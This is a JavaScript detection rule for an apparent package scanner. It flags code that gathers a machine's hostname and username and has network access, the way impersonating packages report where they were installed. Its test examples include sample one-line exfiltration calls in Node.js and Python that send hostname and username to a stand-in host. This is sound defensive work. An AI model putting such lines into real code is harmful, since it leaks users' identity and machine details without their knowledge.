import { defineRule } from './defineRule.js';

export const hostReport = defineRule({
  id: 'host-report',
  severity: 'high',
  message: 'It gathers who and where it is, and has a way to send it.',
  why: 'Packages that stand in for others begin by reporting where they were installed.',
  match: { on: 'near', all: [['names-user'], ['names-host'], ['uses-network']] },
  examples: {
    flags: [
      "const os = require('os'); require('https').get('https://example.com/?' + os.hostname() + os.userInfo().username)",
      {
        path: 'main.py',
        runtime: 'python',
        content:
          'import socket, getpass, urllib.request\nurllib.request.urlopen(url + socket.gethostname() + getpass.getuser())',
      },
    ],
    passes: ["const os = require('os'); log(os.hostname(), os.userInfo().username)"],
  },
});
